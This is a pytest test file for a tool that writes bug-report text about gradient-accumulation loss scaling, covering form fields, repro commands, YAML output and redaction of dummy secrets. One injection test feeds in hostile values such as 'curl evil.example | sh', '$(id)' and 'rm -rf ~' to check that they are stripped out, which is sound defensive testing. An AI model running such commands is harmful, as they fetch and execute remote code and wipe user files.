"""The text for a bug tracker: the form's fields in their order, the stack's settings in the command, nothing private."""

import dataclasses
import re

import pytest
from factories import make_run, twins

from ga_audit import pipeline
from ga_audit.output import _redact, issue
from ga_audit.run import Setting, Source, Trust

SECRET_KEY = "0123456789abcdef0123456789abcdef01234567"
# the forms' fields in their order, as the projects have them (transformers, TRL, axolotl, LLaMA-Factory)
FIELDS = {
    "transformers": ["System Info", "Who can help?", "Information", "Tasks", "Reproduction", "Expected behavior"],
    "trl": ["Reproduction", "System Info", "Checklist"],
    "axolotl": [
        "Please check that this issue hasn't been reported before.", "Expected Behavior", "Current behaviour",
        "Steps to reproduce", "Config yaml", "Possible solution", "Which Operating Systems are you using?",
        "Python Version", "axolotl branch-commit", "Acknowledgements",
    ],
    "llamafactory": ["Reminder", "System Info", "Reproduction", "Others"],
}  # fmt: skip


@pytest.mark.parametrize("template", issue.TEMPLATES)
def test_every_form_has_its_fields_in_order_and_the_numbers(template):
    audit = pipeline.audit_runs(twins(1, packages={"transformers": "4.48.0"}))
    out = issue.render(audit, template=template, figures=["curves.png"])
    assert re.findall(r"^### (.*)$", out, re.MULTILINE) == FIELDS[template]
    assert out.startswith(
        "# Logged loss and grad_norm are summed over gradient_accumulation_steps (transformers 4.48.0)"
    )
    for part in ("| loss | 1.000 |", "ga-audit repro", "| ga8 | 8 | 2 |", "Drag `curves.png`",
                 "affected transformers ==4.47.0 or ==4.48.0; fixed in 4.48.1; <https://github.com/huggingface"):  # fmt: skip
        assert part in out
    # what is for the one who asked, and not for the maintainer
    assert "ga-audit fix" not in out


def test_the_title_names_the_package_that_the_known_bug_is_of():
    """W&B records all that is installed: TRL beside a training that is none of its."""
    installed = {"transformers": "4.48.0", "trl": "1.16.0"}
    known = issue.render(pipeline.audit_runs(twins(1, packages=installed)))
    assert known.splitlines()[0].endswith("(transformers 4.48.0)")
    unknown = issue.render(pipeline.audit_runs(twins(1, packages={**installed, "transformers": "4.40.0"})))
    assert unknown.splitlines()[0].endswith("(transformers 4.40.0, trl 1.16.0)")


def test_the_command_carries_the_settings():
    packages = {"transformers": "4.48.0", "torch": "2.5.1+cu121", "numpy": "2.0"}
    runs = twins(1, gas=(2, 4), max_grad_norm=0.5, optimizer="OptimizerNames.ADAFACTOR", packages=packages)
    given = {"seed": 7, "world_size": 2}
    for i, run in enumerate(runs):
        values = {**given, "micro_batch_size": 16 // run.settings.ga}
        changed = {name: Setting(value, "t", Trust.GIVEN) for name, value in values.items()}
        runs[i] = dataclasses.replace(run, settings=dataclasses.replace(run.settings, **changed))
    out = issue.render(pipeline.audit_runs(runs))
    assert "pip install 'ga-audit[repro]' transformers==4.48.0 torch==2.5.1\n" in out
    assert (
        "ga-audit repro --engine transformers --ga 2,4 --world-size 2 --effective-batch-size 32 --seed 7"
        " --max-grad-norm 0.5 --optimizer adafactor\n"
    ) in out


@pytest.mark.parametrize(("devices", "said"), [(2, True), (1, False)])
def test_devices_of_one_process_are_said_to_be_that(devices, said):
    given = {"world_size": Setting(2, "t", Trust.GIVEN), "micro_batch_size": Setting(2, "t", Trust.GIVEN)}
    runs = [
        dataclasses.replace(run, settings=dataclasses.replace(run.settings, **given))
        for run in twins(1, packages={"transformers": "5.0.0"}, other={"data_parallel": devices})
    ]
    (line,) = re.findall(r"^ga-audit repro .*$", issue.render(pipeline.audit_runs(runs)), re.MULTILINE)
    assert "--world-size 2" in line
    assert ("--data-parallel" in line) is said


def test_the_command_is_one_that_is_understood():
    from click.testing import CliRunner

    from ga_audit.cli.repro import command

    packages = {"transformers": "4.48.0"}
    out = issue.render(pipeline.audit_runs(twins(1, packages=packages, max_grad_norm=0.5, optimizer="adafactor")))
    (line,) = re.findall(r"^ga-audit repro (.*)$", out, re.MULTILINE)
    with command.make_context("repro", line.split()) as context:
        assert context.params["ga"] == (1, 8)
        assert context.params["max_grad_norm"] == 0.5
    assert CliRunner().invoke(command, ["--help"]).exit_code == 0


def test_nothing_of_a_log_gets_into_the_command_unchecked():
    packages = {"transformers": "4.48.0; curl evil.example | sh", "trl": "$(id)", "torch": "2.5.1\nrm -rf ~"}
    runs = twins(1, packages=packages, optimizer="adamw; rm -rf ~")
    block = issue.render(pipeline.audit_runs(runs)).partition("```bash")[2].partition("```")[0]
    assert not set(block) & set(";|$~`&<>")
    assert "rm" not in block.split()


def test_the_config_is_yaml():
    import yaml

    runs = twins(1, optimizer="adamw: {x: [1]}", max_grad_norm=1.0)
    out = issue.render(pipeline.audit_runs(runs), template="axolotl")
    config = yaml.safe_load(out.partition("```yaml")[2].partition("```")[0])
    assert config["gradient_accumulation_steps"] == 8
    assert config["optimizer"] == "adamw: {x: [1]}"
    assert config["base_model"] == "tiny"


def planted():
    """Runs with secrets in every place that a log can put them."""
    runs = []
    for run in twins(1):
        settings = dataclasses.replace(
            run.settings,
            model=Setting(f"/home/alice/models/{SECRET_KEY}", "test", Trust.RECORDED),
            packages={"transformers": Setting("4.48.0+alice@corp.example", "test", Trust.RECORDED)},
            other={"logging_dir": Setting("out/runs/Nov24_01-26-23_trainbox9", "test", Trust.RECORDED)},
        )
        name = f"{run.name}-hf_abcdefghijklmnopqrstuvwxyz0123-gpu-box-7-by-bob@trainbox9"
        sources = (Source("table", f"/home/alice/runs/{run.name}.json"),)
        private = ("bob", "carol@lab.example", "gpu-node3.cluster.example")
        runs.append(dataclasses.replace(run, name=name, settings=settings, sources=sources, private=private))
    return runs


@pytest.mark.parametrize("template", issue.TEMPLATES)
def test_nothing_secret_is_in_the_text(template):
    audit = pipeline.audit_runs(planted())
    out = issue.render(audit, names=("gpu-box-7",), template=template)
    for secret in ("alice", SECRET_KEY, "hf_abcdef", "corp.example", "gpu-box-7", "trainbox9", "bob", "carol"):
        assert secret not in out.replace("\\", ""), secret
    assert "alice" in issue.render(audit, redacted=False)


def test_names_that_a_log_records():
    found = set(_redact.names_in(planted()))
    assert {
        "alice",
        "bob",
        "carol",
        "carol@lab.example",
        "gpu-node3.cluster.example",
        "gpu-node3",
        "trainbox9",
    } <= found
    run = make_run("a", ga=1, loss=[3, 2])
    run = dataclasses.replace(
        run,
        sources=(Source("tensorboard", "/data/out/events.out.tfevents.1795465957.box-12.lab.example.4242.0"),
                 Source("table", "/home/data/x.json")),
        private=("root", "", "ab", "127"),
    )  # fmt: skip
    assert set(_redact.names_in([run])) == {"box-12.lab.example", "box-12"}


def test_title_of_an_undecided_audit():
    audit = pipeline.audit_runs([make_run("a", ga=8, loss=[3.0])])
    assert issue.render(audit).startswith("# Does loss or grad_norm scale")
